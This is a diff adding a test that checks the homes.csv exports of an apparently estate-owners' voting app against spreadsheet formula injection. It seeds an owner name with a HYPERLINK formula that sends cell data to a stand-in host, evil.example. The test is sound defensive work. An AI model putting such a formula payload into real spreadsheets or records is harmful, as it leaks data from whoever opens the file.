@@ -270,3 +270,22 @@ def test_downloaded_exports_recount_to_the_page_result(client, world, db, tmp_pa
     printed = json.loads(capsys.readouterr().out)
     assert printed == outcome_json(page.context["outcome"])
     assert (printed["owners_voted"], printed["area_voted"], printed["passed"]) == (3, "500.00", False)
+
+
+def test_homes_csv_export_never_hands_a_spreadsheet_a_formula(client, world, db):
+    """An owner's name typed as a formula comes out as text in both homes.csv exports."""
+    import csv
+
+    home = world.owner_row("qian").home_id
+    evil = '=HYPERLINK("http://evil.example/?"&A1,"click")'
+    services.update_home(db, world.staff, home, building="1", room="107", area="100.00",
+                         owners=f"{evil};@SUM(1+1)", developer_held=False, now=clock.utcnow())
+    matter = open_matter(world)
+    factories.sign_in(client, world.moderator.login)
+    for url in (f"/estates/{world.estate.id}/owners/homes.csv", f"/owners/matters/{matter.id}/homes.csv"):
+        response = client.get(url)
+        assert response.status_code == 200
+        rows = list(csv.reader(response.content.decode("utf-8-sig").splitlines()))
+        cells = [cell for row in rows for cell in row]
+        assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")], cells
+        assert any(c.startswith("'=HYPERLINK") for c in cells)
